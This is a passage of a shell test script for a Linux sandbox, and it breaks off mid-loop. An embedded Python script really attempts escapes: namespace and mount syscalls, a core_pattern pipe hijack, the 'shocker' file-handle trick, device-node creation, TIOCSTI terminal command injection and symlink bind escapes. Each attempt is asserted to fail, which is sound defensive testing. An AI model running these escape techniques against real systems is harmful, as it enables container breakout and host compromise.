#!/bin/sh
# Attacks a sandbox must stop, tried for real from inside: under
# --profile default, with no flags at all (the default profile), and under
# --profile strict (with the binds it needs to run sh and python3), as the
# caller and, when root, as nobody. Every case also checks the host side:
# nothing mounted, created, signalled, traced, injected or rewritten.
# The syscall decisions themselves (crafted arguments, kernel vs filter)
# are policy.sh's; here the arguments are the real ones an attacker uses.
. "$(dirname "$0")/../lib.sh"

PY=/usr/bin/python3
if [ ! -x "$PY" ]; then
  echo "1..0 # SKIP $PY not installed (the attacks are python3 scripts)"
  exit 0
fi

WORK="$TMP/work"         # the sandbox's cwd: bound read-write
HOSTONLY="$TMP/hostonly" # a host directory no sandbox here binds
OUTSIDE="$TMP/outside"   # where planted symlinks point on the host
mkdir -p "$WORK" "$HOSTONLY" "$OUTSIDE"
chmod 750 "$OUTSIDE"
echo marker >"$HOSTONLY/marker"
STRICT="--profile strict $SYS --bind $WORK $WORK --chdir $WORK"
NONCE="sbtest-$$-$(date +%s)"

# ---- the attacker's tools, written where every sandbox here can run them
cat >"$WORK/attack.py" <<'EOF'
# attack.py CASE[:ARG[:ARG]]...: performs each attack for real inside the
# sandbox and prints "CASE OK" (the attack worked) or "CASE ERRNO".
import ctypes, errno, os, socket, stat, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = dict(unshare=272, clone=56, clone3=435, mount=165, umount2=166,
          pivot_root=155, chroot=161, open_tree=428, move_mount=429,
          fsopen=430, fspick=433, mount_setattr=442, bpf=321,
          perf_event_open=298, userfaultfd=323, io_uring_setup=425,
          add_key=248, keyctl=250, init_module=175, finit_module=313,
          kexec_load=246, kexec_file_load=320, open_by_handle_at=304,
          name_to_handle_at=303, ptrace=101, ioctl=16, mknodat=259)
L = ctypes.c_long
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000

class Fail(Exception):
    pass

def sc(name, *args):
    conv = [L(a) if isinstance(a, int) else a for a in args]
    r = libc.syscall(L(NR[name]), *conv)
    if r < 0:
        raise Fail(ctypes.get_errno())
    return r

def reap(pid):
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)

def a_unshare(kind):
    sc("unshare", {"user": CLONE_NEWUSER, "mnt": CLONE_NEWNS, "net": CLONE_NEWNET}[kind])

def a_clone(kind):
    # fork-like: no stack, SIGCHLD; the child exits at once.
    reap(sc("clone", {"user": CLONE_NEWUSER, "mnt": CLONE_NEWNS, "net": CLONE_NEWNET}[kind] | 17, 0, 0, 0, 0))

def a_clone3(kind):
    flags = {"user": CLONE_NEWUSER, "mnt": CLONE_NEWNS, "net": CLONE_NEWNET}[kind]
    args = ctypes.create_string_buffer(struct.pack("<8Q", flags, 0, 0, 0, 17, 0, 0, 0), 64)
    reap(sc("clone3", args, 64))

def a_mount(target):
    sc("mount", b"none", target.encode(), b"tmpfs", 0, None)

def a_remount_rw(target):
    MS_REMOUNT, MS_BIND = 32, 4096
    sc("mount", None, target.encode(), None, MS_REMOUNT | MS_BIND, None)

def a_umount(target):
    sc("umount2", target.encode(), 2)  # MNT_DETACH

def a_fsopen():
    sc("fsopen", b"tmpfs", 0)

def a_open_tree(path):
    sc("open_tree", -100, path.encode(), 1)  # OPEN_TREE_CLONE

def a_move_mount(src, dst):
    sc("move_mount", -100, src.encode(), -100, dst.encode(), 0)

def a_fspick(path):
    sc("fspick", -100, path.encode(), 0)

def a_mount_setattr(path):
    # clear MOUNT_ATTR_RDONLY: a read-only bind made writable
    attr = ctypes.create_string_buffer(struct.pack("<QQQQ", 0, 1, 0, 0), 32)
    sc("mount_setattr", -100, path.encode(), 0, attr, 32)

def a_pivot_root():
    sc("pivot_root", b".", b".")

def a_chroot():
    sc("chroot", b"/tmp")

def a_bpf():
    # BPF_MAP_CREATE, an array map of one int
    attr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1), 128)
    os.close(sc("bpf", 0, attr, 128))

def a_perf():
    # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK, this process
    attr = ctypes.create_string_buffer(struct.pack("<IIQ", 1, 128, 0), 128)
    os.close(sc("perf_event_open", attr, 0, -1, -1, 0))

def a_userfaultfd():
    os.close(sc("userfaultfd", os.O_CLOEXEC | 1))  # UFFD_USER_MODE_ONLY

def a_io_uring():
    params = ctypes.create_string_buffer(120)
    os.close(sc("io_uring_setup", 4, params))

def a_add_key(name):
    sc("add_key", b"user", name.encode(), b"x", 1, -3)  # KEY_SPEC_SESSION_KEYRING

def a_keyctl_join(name):
    sc("keyctl", 1, name.encode(), 0, 0, 0)  # KEYCTL_JOIN_SESSION_KEYRING

def a_init_module():
    img = ctypes.create_string_buffer(b"\x7fELF" + b"\0" * 60)
    sc("init_module", img, 64, b"")

def a_finit_module():
    fd = os.open("/dev/null", os.O_RDONLY)
    sc("finit_module", fd, b"", 0)

def a_kexec_load():
    sc("kexec_load", 0, 0, None, 0)

def a_kexec_file_load():
    fd = os.open("/dev/null", os.O_RDONLY)
    sc("kexec_file_load", fd, fd, 1, b"", 4)

def a_open_by_handle():
    # "shocker": a handle names an inode by number; ext4's root is inode 2
    # (FILEID_INO32_GEN), whatever directory the sandbox shows.
    h = ctypes.create_string_buffer(struct.pack("<iiII", 8, 1, 2, 0), 16)
    mfd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    os.close(sc("open_by_handle_at", mfd, h, os.O_RDONLY | os.O_DIRECTORY))

def a_ptrace(pid):
    sc("ptrace", 16, int(pid), 0, 0)  # PTRACE_ATTACH
    sc("ptrace", 17, int(pid), 0, 0)

def a_kill(pid, sig):
    os.kill(int(pid), int(sig))

def a_visible(pid):
    # the pid exists here and is not one of the sandbox's own
    os.stat("/proc/%s" % pid)

def a_ioctl(fd, req, text):
    # one ioctl per byte (TIOCSTI), or the TIOCLINUX subcode
    for ch in text.encode():
        c = ctypes.c_char(bytes([ch]))
        sc("ioctl", int(fd), ctypes.c_ulong(int(req, 0)), ctypes.byref(c))

def a_mknod(path, kind):
    major, minor, mode = {"sda": (8, 0, 0o60600), "mem": (1, 1, 0o20600)}[kind]
    sc("mknodat", -100, path.encode(), mode, os.makedev(major, minor))

def a_write(path, text):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)

def a_openw(path):
    # opened for writing, but nothing written (sysrq-trigger)
    os.close(os.open(path, os.O_WRONLY))

def a_sethostname(name):
    libc.sethostname(name.encode(), len(name)) == 0 or (_ for _ in ()).throw(Fail(ctypes.get_errno()))

def a_connect(kind, addr):
    fam = socket.AF_INET if kind == "tcp" else socket.AF_UNIX
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    if kind == "tcp":
        s.connect(("127.0.0.1", int(addr)))
    elif kind == "abstract":
        s.connect("\0" + addr)
    else:
        s.connect(addr)
    s.sendall(b"hello from the sandbox\n")
    s.close()

def a_fds():
    # this process's descriptors (the one listdir used is closed by now)
    links = {}
    for f in os.listdir("/proc/self/fd"):
        try:
            links[int(f)] = os.readlink("/proc/self/fd/" + f)
        except OSError:
            pass
    print("fds", " ".join(str(f) for f in sorted(links)))
    for f in sorted(links):
        print("fd", f, links[f])

def a_others_dirfds():
    # every process in sight: none may hold a directory open (a handle on
    # the host's tree)
    bad = []
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            for f in os.listdir("/proc/%s/fd" % p):
                try:
                    if stat.S_ISDIR(os.stat("/proc/%s/fd/%s" % (p, f)).st_mode):
                        bad.append("%s/%s" % (p, f))
                except OSError:
                    pass
        except OSError:
            pass
    if bad:
        print("dirfds", " ".join(bad))
    else:
        raise Fail(errno.ENOENT)

for arg in sys.argv[1:]:
    name, *params = arg.split(":")
    try:
        globals()["a_" + name.replace("-", "_")](*params)
        res = "OK"
    except Fail as e:
        res = errno.errorcode.get(e.args[0], str(e.args[0]))
    except OSError as e:
        res = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
    except Exception as e:
        res = type(e).__name__
    # The label: the case and its arguments, but never text to inject.
    label = ":".join([name] + params[:2]) if name == "ioctl" else arg
    print(label, res, flush=True)
EOF
cat >"$TMP/pty_run.py" <<'EOF'
# pty_run.py DIR CMD...: runs CMD from DIR on a new pseudo-terminal, as the
# foreground job of a shell that then reads one line from that terminal and
# executes it (a stand-in for the user's interactive shell). Prints
# everything the terminal showed. "true" is typed once CMD is done, so
# the shell only runs something else if CMD pushed it into the input.
import os, pty, select, sys, time
d, cmd = sys.argv[1], sys.argv[2:]
script = 'cd "$1" && shift && "$@"; echo "SB-DONE rc=$?"; IFS= read -r line; eval "$line"; echo SB-AFTER'
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-c", script, "sh", d] + cmd)
out, typed, end = b"", False, time.time() + 60
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.2)
    if r:
        try:
            data = os.read(fd, 4096)
        except OSError:
            break
        if not data:
            break
        out += data
    if not typed and b"SB-DONE" in out:
        time.sleep(0.3)
        os.write(fd, b"true\n")
        typed = True
os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace").replace("\r", ""))
EOF
chmod -R a+rX "$WORK" "$TMP/pty_run.py"

# sbx MODE [OPTIONS... --] CMD...: runs CMD in the sandbox MODE (default,
# noflags, strict) from $WORK; OPTIONS only where MODE takes options. Sets
# OUT, ERR, RC.
sbx() {
  mode=$1
  shift
  case $mode in
  default) set -- --profile default "$@" ;;
  noflags) ;;
  strict) set -- $STRICT "$@" ;;
  esac
  (cd "$WORK" && "$SB" "$@") >"$TMP/out" 2>"$TMP/err"
  RC=$?
  OUT=$(cat "$TMP/out")
  ERR=$(cat "$TMP/err")
}



# res CASE: the attack's result in $OUT ("OK" = it worked).
res() { printf '%s\n' "$OUT" | awk -v c="$1" '$1 == c { print $2; exit }'; }
# stopped LABEL CASE ERRNO-REGEX: the attack ran and failed as expected.
stopped() {
  r=$(res "$2")
  case $r in
  "") not_ok "$1: $2 did not run"; diag "rc=$RC" "out: $OUT" "err: $ERR" ;;
  OK) not_ok "$1: $2 is stopped"; diag "the attack succeeded" ;;
  *) expect_match "$1: $2 is stopped ($3)" "^($3)$" "$r" ;;
  esac
}

# The host's mounts at the places these attacks aim (what they would mount
# on, remount or unmount; where symlinks point; set-up's own names), with
# their options. Not the whole table: other programs mount meanwhile
# (meson runs tests in parallel; automounts such as binfmt_misc come and
# go), and that once failed this check with no attack at all.
host_mounts() {
  awk '{ print $5, $6 }' /proc/self/mountinfo |
    grep -E "^(/|/tmp|/run|/proc|/proc/sys|/var/tmp) |^(/usr|/etc|/t|/link|/s|/e|$TMP)[ /]|newroot|oldroot" | sort
}
host_keys() { grep -c "$NONCE" /proc/keys 2>/dev/null; }
proc_field() { sed -n "s/^$2:[[:space:]]*//p" "/proc/$1/status" 2>/dev/null; }

# A host process to aim at, and the listeners: an abstract unix socket, a
# unix socket in a directory the sandbox does not see, TCP on 127.0.0.1.
sleep 600 &
VICTIM=$!
cat >"$TMP/listen.py" <<'EOF'
import os, select, socket, sys
log, ready, name, path = sys.argv[1:5]
socks = []
for fam, addr in ((socket.AF_UNIX, "\0" + name), (socket.AF_UNIX, path),
                  (socket.AF_INET, ("127.0.0.1", 0))):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.bind(addr)
    s.listen(8)
    socks.append(s)
with open(ready + ".tmp", "w") as f:
    f.write("%d\n" % socks[2].getsockname()[1])
os.rename(ready + ".tmp", ready)
while True:
    r, _, _ = select.select(socks, [], [], 600)
    if not r:
        break
    for s in r:
        c, _ = s.accept()
        with open(log, "a") as f:
            f.write("accepted on %r\n" % (s.getsockname(),))
        c.close()
EOF
ABSTRACT="$NONCE-abstract"
: >"$TMP/accepted"
$PY "$TMP/listen.py" "$TMP/accepted" "$TMP/ready" "$ABSTRACT" "$HOSTONLY/sock" &
LISTENER=$!
n=0
while [ ! -e "$TMP/ready" ] && [ $n -lt 100 ]; do sleep 0.1; n=$((n + 1)); done
PORT=$(cat "$TMP/ready" 2>/dev/null)
HOST_CORE=$(cat /proc/sys/kernel/core_pattern)
HOST_HOSTNAME=$(cat /proc/sys/kernel/hostname)
# restore_host: should an attack have worked, the host as it was (also on
# an early exit).
restore_host() {
  [ "$(cat /proc/sys/kernel/core_pattern)" = "$HOST_CORE" ] ||
    printf '%s\n' "$HOST_CORE" >/proc/sys/kernel/core_pattern 2>/dev/null
  [ "$(cat /proc/sys/kernel/hostname)" = "$HOST_HOSTNAME" ] ||
    printf '%s\n' "$HOST_HOSTNAME" >/proc/sys/kernel/hostname 2>/dev/null
}
trap 'restore_host; kill $VICTIM $LISTENER 2>/dev/null; cleanup' EXIT
# The listeners answer the host: the sandbox's failures below are not the
# listeners' absence.
$PY - "$ABSTRACT" "$PORT" <<'EOF'
import socket, sys
for fam, addr in ((socket.AF_UNIX, "\0" + sys.argv[1]), (socket.AF_INET, ("127.0.0.1", int(sys.argv[2])))):
    s = socket.socket(fam, socket.SOCK_STREAM); s.connect(addr); s.close()
EOF
sleep 0.3
expect_eq "the host reaches its own listeners (abstract, tcp)" 2 "$(wc -l <"$TMP/accepted")"
: >"$TMP/accepted"

HOST_PID1=$(tr '\0' ' ' </proc/1/cmdline 2>/dev/null)

# Every syscall attack, with the arguments that would do harm. Ordered:
# umount of the /proc/sys cover comes before the sysctl writes it would
# expose.
ATTACKS="unshare:user unshare:mnt unshare:net clone:user clone:mnt clone:net
clone3:user clone3:net mount:/tmp remount-rw:/usr umount:/proc/sys umount:/usr
fsopen open-tree:/usr move-mount:/tmp:/run fspick:/usr mount-setattr:/usr
pivot-root chroot bpf perf userfaultfd io-uring add-key:$NONCE-key
keyctl-join:$NONCE-ring init-module finit-module kexec-load kexec-file-load
open-by-handle
write:/proc/sys/kernel/core_pattern:|/sbtest-pwned
write:/proc/sys/kernel/hostname:sbtest-pwned sethostname:sbtest-pwned
write:/sys/kernel/uevent_helper:/sbtest-pwned
mknod:/tmp/sda:sda mknod:/tmp/mem:mem mknod:$WORK/sda:sda mknod:$WORK/mem:mem
connect:abstract:$ABSTRACT connect:tcp:$PORT connect:unix:$HOSTONLY/sock
visible:$VICTIM visible:$$ kill:$VICTIM:0 kill:$VICTIM:9 kill:$$:0 ptrace:$VICTIM
ioctl:0:0x5412:x ioctl:0:0x100005412:x ioctl:0:0x541C:3"
if [ -e /proc/sysrq-trigger ]; then ATTACKS="$ATTACKS openw:/proc/sysrq-trigger"; fi

for mode in default noflags strict; do
  L=$mode
  mounts_before=$(host_mounts)

  # ---- syscalls, for real ----
  # shellcheck disable=SC2086
  sbx $mode -- $PY attack.py $ATTACKS
  for u in user mnt net; do
    stopped "$L" unshare:$u EPERM
    stopped "$L" clone:$u EPERM
  done
  stopped "$L" clone3:user "ENOSYS|EPERM"
  stopped "$L" clone3:net "ENOSYS|EPERM"
  stopped "$L" mount:/tmp EPERM
  stopped "$L" remount-rw:/usr EPERM
  stopped "$L" umount:/proc/sys EPERM
  stopped "$L" umount:/usr EPERM
  for c in fsopen open-tree:/usr move-mount:/tmp:/run fspick:/usr mount-setattr:/usr; do
    stopped "$L" $c "ENOSYS|EPERM"
  done
  stopped "$L" pivot-root EPERM
  stopped "$L" chroot EPERM
  stopped "$L" bpf EPERM
  stopped "$L" perf EPERM
  stopped "$L" userfaultfd EPERM
  stopped "$L" io-uring "ENOSYS|EPERM"
  stopped "$L" add-key:$NONCE-key EPERM
  stopped "$L" keyctl-join:$NONCE-ring EPERM
  for c in init-module finit-module kexec-load kexec-file-load open-by-handle; do
    stopped "$L" $c EPERM
  done
  # The host's sysctls: read-only even for a root caller; /sys not there.
  stopped "$L" "write:/proc/sys/kernel/core_pattern:|/sbtest-pwned" "EROFS|EACCES|EPERM"
  stopped "$L" write:/proc/sys/kernel/hostname:sbtest-pwned "EROFS|EACCES|EPERM"
  stopped "$L" sethostname:sbtest-pwned EPERM
  stopped "$L" write:/sys/kernel/uevent_helper:/sbtest-pwned "ENOENT|EROFS|EACCES"
  if [ -e /proc/sysrq-trigger ]; then
    stopped "$L" openw:/proc/sysrq-trigger "EROFS|EACCES|ENOENT"
  else
    skip "$L: /proc/sysrq-trigger (kernel without CONFIG_MAGIC_SYSRQ)"
  fi
  # Device nodes: none can be made, in the sandbox's /tmp or in the bound
  # (host) working directory.
  for c in mknod:/tmp/sda:sda mknod:/tmp/mem:mem mknod:$WORK/sda:sda mknod:$WORK/mem:mem; do
    stopped "$L" $c EPERM
  done
  # Host sockets: another network namespace; strict has no inet sockets.
  stopped "$L" connect:abstract:$ABSTRACT "ECONNREFUSED|ENOENT|EPERM"
  stopped "$L" connect:tcp:$PORT "ECONNREFUSED|ENETUNREACH|EPERM"
  stopped "$L" connect:unix:$HOSTONLY/sock "ENOENT"
  # Host processes: not even visible from the sandbox's pid namespace.
  stopped "$L" visible:$VICTIM ENOENT
  stopped "$L" visible:$$ ENOENT
  stopped "$L" kill:$VICTIM:0 ESRCH
  stopped "$L" kill:$VICTIM:9 ESRCH
  stopped "$L" kill:$$:0 ESRCH
  stopped "$L" ptrace:$VICTIM "ESRCH|EPERM"
  # Terminal ioctls (on a pipe here; on a real terminal below).
  stopped "$L" ioctl:0:0x5412 EPERM
  stopped "$L" ioctl:0:0x100005412 EPERM
  stopped "$L" ioctl:0:0x541C EPERM

  # ---- the host afterwards ----
  expect_eq "$L: host mount table unchanged" "$mounts_before" "$(host_mounts)"
  expect_eq "$L: no key reached the caller's keyrings" 0 "$(host_keys)"
  expect_eq "$L: host core_pattern unchanged" "$HOST_CORE" "$(cat /proc/sys/kernel/core_pattern)"
  expect_eq "$L: host hostname unchanged" "$HOST_HOSTNAME" "$(cat /proc/sys/kernel/hostname)"
  restore_host
  expect_eq "$L: no device node in the host directory" "" "$(find "$WORK" -type b -o -type c)"
  expect_eq "$L: the host listeners accepted nothing" "" "$(cat "$TMP/accepted")"
  check "$L: the host process is alive" kill -0 $VICTIM
  expect_eq "$L: the host process is not stopped nor traced" "S 0" \
    "$(proc_field $VICTIM State | cut -c1) $(proc_field $VICTIM TracerPid)"

  # ---- namespaces through unshare(1) ----
  for o in -U -Ur -m -n -p; do
    sbx $mode -- unshare $o true
    expect_match "$L: unshare $o fails" "^[1-9]" "$RC"
  done

  # ---- the sandbox's pid 1 is not the host's ----
  sbx $mode -- sh -c 'tr "\0" " " </proc/1/cmdline; echo; ls /proc | grep -c "^[0-9][0-9]*$"'
  expect_nomatch "$L: /proc/1 is not the host's init" "^$(printf '%s' "$HOST_PID1" | sed 's/[][\.*^$|+?(){}]/\\&/g')\$" "$(echo "$OUT" | sed -n 1p)"
  expect_match "$L: only the sandbox's few processes are visible" '^[1-5]$' "$(echo "$OUT" | sed -n 2p)"

  # ---- host files outside the binds ----
  sbx $mode -- sh -c 'for p in "$1" "$2" /root; do test -e "$p" && echo "$p visible"; done; echo end' sh "$HOSTONLY/marker" "$HOSTONLY"
  expect_eq "$L: a host marker outside the binds, its directory, /root: absent" "end" "$OUT"
  case $HOME in
  / | "" | "$WORK"*) skip "$L: \$HOME ($HOME) is / or holds the cwd" ;;
  *)
    sbx $mode -- sh -c 'ls -A "$1" 2>/dev/null | head -n 3; echo end' sh "$HOME"
    expect_eq "$L: \$HOME's contents are not visible" "end" "$OUT"
    ;;
  esac
  if [ $mode != strict ]; then
    sbx $mode -- sh -c 'cat /etc/shadow /etc/gshadow 2>/dev/null | wc -c'
    expect_eq "$L: /etc/shadow and /etc/gshadow give nothing away" "0" "$OUT"
  fi

  # ---- raw devices ----
  sbx $mode -- sh -c 'find /dev -type b | head -n 3
    for d in mem kmem port kmsg sda vda nvme0n1 tty0 tty1 console0 loop0 loop-control fuse net/tun; do
      test -e /dev/$d && echo "/dev/$d"
    done; echo end'
  expect_eq "$L: no block device, no mem/kmem/port/disk/vt/loop/fuse/tun in /dev" "end" "$OUT"

  # ---- capabilities, no_new_privs, set-user-ID programs ----
  sbx $mode -- sh -c 'grep -E "^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs):" /proc/self/status | tr -s "\t" " "'
  expect_eq "$L: no capabilities in any set, NoNewPrivs" \
    "CapInh: 0000000000000000 CapPrm: 0000000000000000 CapEff: 0000000000000000 CapBnd: 0000000000000000 CapAmb: 0000000000000000 NoNewPrivs: 1" \
    "$(echo $OUT)"
  # A set-user-ID root program waiting for a password: its ids and
  # capabilities as it runs.
  sbx $mode -- sh -c '
    seen=0
    for b in /usr/bin/passwd /usr/bin/newgrp /usr/bin/su /bin/mount; do
      [ -u "$b" ] || continue
      f=/tmp/fifo.$$; mkfifo $f
      (sleep 5 >$f) & w=$!
      "$b" <$f >/dev/null 2>&1 & p=$!
      sleep 0.5
      st=$(grep -E "^(Uid|CapEff):" /proc/$p/status 2>/dev/null | tr -s "\t" " " | tr "\n" " ")
      kill $p $w 2>/dev/null; wait 2>/dev/null; rm -f $f
      [ -n "$st" ] || continue
      seen=$((seen + 1))
      u=$(id -u)
      [ "$st" = "Uid: $u $u $u $u CapEff: 0000000000000000 " ] || echo "$b gained: $st"
    done
    echo "seen $seen"'
  expect_match "$L: set-user-ID programs gain no uid and no capability" '^seen [1-9][0-9]*$' "$OUT"

  # ---- descriptors: only the command's own ----
  # Launched with nothing but 0, 1, 2 open, then with 5 passed on purpose.
  (cd "$WORK" && $PY -c 'import os, sys; os.closerange(3, 65536); os.execv(sys.argv[1], sys.argv[1:])' \
    "$SB" $( [ $mode = default ] && echo --profile default; [ $mode = strict ] && echo $STRICT) -- \
    $PY attack.py fds others-dirfds) >"$TMP/out" 2>"$TMP/err"
  OUT=$(cat "$TMP/out")
  expect_eq "$L: the command holds only 0, 1, 2" "fds 0 1 2" "$(echo "$OUT" | sed -n 1p)"
  expect_eq "$L: no process in the sandbox holds a directory fd" "others-dirfds ENOENT" "$(echo "$OUT" | tail -n 1)"
  (cd "$WORK" && $PY -c 'import os, sys; os.closerange(3, 65536); os.dup2(0, 5); os.execv(sys.argv[1], sys.argv[1:])' \
    "$SB" $( [ $mode = default ] && echo --profile default; [ $mode = strict ] && echo $STRICT) -- \
    $PY attack.py fds) </dev/null >"$TMP/out" 2>"$TMP/err"
  expect_eq "$L: ... plus the fd the caller passes" "fds 0 1 2 5" "$(sed -n 1p "$TMP/out")"

  # ---- writes: the working directory reaches the host, a --ro-bind does not
  rm -rf "$WORK/sub" "$WORK/top"
  sbx $mode -- sh -c 'mkdir -p sub && echo w >sub/f && echo t >./top'
  expect_eq "$L: writes to the cwd land in the host's directory" "0 w t" \
    "$RC $(cat "$WORK/sub/f" 2>/dev/null) $(cat "$WORK/top" 2>/dev/null)"
  if [ $mode != noflags ]; then
    mkdir -p "$TMP/ro"
    echo orig >"$TMP/ro/existing"
    sbx $mode --ro-bind "$TMP/ro" /ro -- sh -c '
      echo x >/ro/new; echo y >>/ro/existing; rm -f /ro/existing; mkdir /ro/d; ln -s x /ro/l; chmod 777 /ro/existing
      echo done'
    expect_eq "$L: --ro-bind refuses every write" "done $(ls -A "$TMP/ro" | tr '\n' ' ')orig 644" \
      "$OUT $(ls -A "$TMP/ro" | tr '\n' ' ')$(cat "$TMP/ro/existing") $(stat -c %a "$TMP/ro/existing")"
    expect_eq "$L: --ro-bind: six refusals" 6 "$(printf '%s\n' "$ERR" | grep -c -i 'read-only')"
  fi
done

# ---- terminal injection on a real terminal ----
# The sandbox runs as the foreground job of a shell on a fresh pty; that
# shell then executes the next line it reads from the terminal. TIOCSTI
# (and its 0x100005412 spelling) would push "touch $TMP/pwned.X" there.
NL='
'
# pty_inject LABEL X OPTIONS...: tries both spellings from the sandbox.
pty_inject() {
  label=$1 x=$2
  shift 2
  rm -f "$TMP/pwned.$x"*
  for v in lo:0:0x5412 hi:1:0x100005412; do
    $PY "$TMP/pty_run.py" "$WORK" "$SB" "$@" -- $PY attack.py \
      "ioctl:${v#*:}:touch $TMP/pwned.$x.${v%%:*}$NL" >"$TMP/pty.${v%%:*}" 2>&1
  done
  # TIOCLINUX's paste-selection subcode (CVE-2023-28100; harmful on a VT).
  $PY "$TMP/pty_run.py" "$WORK" "$SB" "$@" -- $PY attack.py "ioctl:0:0x541C:$(printf '\003')" >"$TMP/pty.linux" 2>&1
  PTY_LO=$(cat "$TMP/pty.lo") PTY_HI=$(cat "$TMP/pty.hi") PTY_LINUX=$(cat "$TMP/pty.linux")
}
pty_inject control control --profile base-fs --bind "$WORK" "$WORK" --chdir "$WORK"
if [ -e "$TMP/pwned.control.lo" ]; then
  ok "control: without a filter or a new session, TIOCSTI reaches the host shell"
else
  skip "the kernel refuses TIOCSTI here even unfiltered (dev.tty.legacy_tiocsti=0?): nothing to tell apart"
fi
for mode in filter-only default noflags strict; do
  case $mode in
  filter-only) set -- --profile base-fs --profile base-syscalls --bind "$WORK" "$WORK" --chdir "$WORK" ;;
  default) set -- --profile default ;;
  noflags) set -- ;;
  strict) set -- $STRICT ;;
  esac
  pty_inject $mode $mode "$@"
  for v in lo hi; do
    eval "o=\$PTY_$(echo $v | tr a-z A-Z)"
    expect_match "$mode: TIOCSTI ($v) on the terminal is refused" "^ioctl:[01]:0x[0-9a-f]+ EPERM$" "$o"
    if [ -e "$TMP/pwned.$mode.$v" ]; then
      not_ok "$mode: TIOCSTI ($v): nothing injected into the host shell"
      diag "the injected command ran on the host"
    else
      expect_match "$mode: TIOCSTI ($v): nothing injected into the host shell" "^true$" "$o"
    fi
    expect_nomatch "$mode: TIOCSTI ($v): the terminal never showed the text" "pwned" "$o"
  done
  expect_match "$mode: TIOCLINUX on the terminal is refused" "^ioctl:0:0x541C EPERM$" "$PTY_LINUX"
done

# ---- symlinks planted in a bound host directory or made by an earlier op ----
# "abs" names the host through the set-up's view of it (/oldroot), "up"
# climbs there with "..", "host" is the host path itself: each must resolve
# inside the new root, where it leads nowhere; nothing may appear on the
# host, and the host's mount table must not move.
EVIL="$TMP/evil" SRCD="$TMP/srcd"
mkdir -p "$EVIL" "$SRCD"
echo src >"$SRCD/file"
ln -s "/oldroot$OUTSIDE" "$EVIL/abs"
ln -s "../../../../../../../../../../../../oldroot$OUTSIDE" "$EVIL/up"
ln -s "$OUTSIDE" "$EVIL/host"
ln -s /etc "$EVIL/etc"
ln -s /t "$EVIL/inside"
outside_state() { echo "$(ls -A "$OUTSIDE" | tr '\n' ' ')$(stat -c %a "$OUTSIDE")"; }
OUTSIDE_BEFORE=$(outside_state)
# outside_same LABEL: the host side is as before; put it back if not, so
# that each case is judged on its own.
outside_same() {
  expect_eq "$1" "$OUTSIDE_BEFORE" "$(outside_state)"
  find "$OUTSIDE" -mindepth 1 -delete 2>/dev/null
  chmod 750 "$OUTSIDE"
}
for mode in default strict; do
  L="$mode: symlink"
  mounts_before=$(host_mounts)
  for l in abs up host; do
    for op in "--dir /e/$l/newdir" "--tmpfs /e/$l/mnt" "--ro-bind $SRCD /e/$l/bound" \
      "--bind $SRCD/file /e/$l/bfile" "--symlink x /e/$l/lnk" "--chmod 0777 /e/$l" \
      "--file 3 /e/$l/file" "--bind-data 3 /e/$l/data" "--dir /e/$l/a/b/c"; do
      # shellcheck disable=SC2086
      sbx $mode --bind "$EVIL" /e $op -- true 3<"$SRCD/file"
      outside_same "$L $l: $op stays in the new root"
    done
  done
  # Made by the sandbox itself, then used.
  for t in "/oldroot$OUTSIDE" "../../../../../../../../oldroot$OUTSIDE"; do
    for op in "--dir /s/newdir" "--tmpfs /s/mnt" "--file 3 /s/file" "--ro-bind $SRCD /s/bound"; do
      # shellcheck disable=SC2086
      sbx $mode --symlink "$t" /s $op -- true 3<"$SRCD/file"
      outside_same "$L --symlink $t /s: $op stays in the new root"
    done
  done
  # Plain "..", no symlink at all.
  sbx $mode --dir "/../../../oldroot$OUTSIDE/dotdot" --tmpfs "/e/../../oldroot$OUTSIDE/dotdot2" -- true
  outside_same "$L: a destination with .. stays in the new root"
  # Into the read-only /etc (the sandbox's, not the host's).
  sbx $mode --bind "$EVIL" /e --tmpfs /e/etc/sbtest-attack -- true
  check "$L etc -> /etc: the host's /etc is untouched" test ! -e /etc/sbtest-attack
  # Absolute symlinks that stay inside resolve inside.
  sbx $mode --tmpfs /t --bind "$EVIL" /e --dir /e/inside/made -- test -d /t/made
  expect_eq "$L inside -> /t: --dir lands in the sandbox's /t" 0 "$RC"
  sbx $mode --tmpfs /t --symlink /t /link --bind "$SRCD" /link/x -- cat /t/x/file
  expect_eq "$L --symlink /t /link: --bind /link/x mounts on /t/x inside" "0 src" "$RC $OUT"
  sbx $mode --symlink /usr /link --bind "$SRCD" /link/x -- true
  check "$L --symlink /usr /link: nothing made at the host's /usr/x" test ! -e /usr/x
  check "$L: no /t, /link, /s, /e on the host" sh -c '! test -e /t && ! test -e /link && ! test -e /s && ! test -e /e'
  expect_eq "$L: host mount table unchanged" "$mounts_before" "$(host_mounts)"
done

# ---- code planted to run outside the sandbox later ----
# The current directory is writable under the default profile: a git hook
# or an include in .git/config would run on the user's next git command on
# the host, and a start-up file in a home in reach on the next login.
REPO="$TMP/repo"
mkdir -p "$REPO/.git/hooks" "$REPO/.git/objects" "$TMP/fakehome/.ssh" "$TMP/fakehome/.config"
printf '[core]\n' >"$REPO/.git/config"
printf '# rc\n' >"$TMP/fakehome/.bashrc"
printf 'ssh-ed25519 AAAA user\n' >"$TMP/fakehome/.ssh/authorized_keys"
# snapshot DIR: every path with its mode, and every file's content.
snapshot() {
  (cd "$1" && find . -path ./.git/objects -prune -o -printf '%p %m\n' | sort &&
    find . -path ./.git/objects -prune -o -type f -exec cat {} +) | md5sum
}
for how in "--profile default" "no flags"; do
  [ "$how" = "no flags" ] && set -- || set -- --profile default
  before=$(snapshot "$REPO")
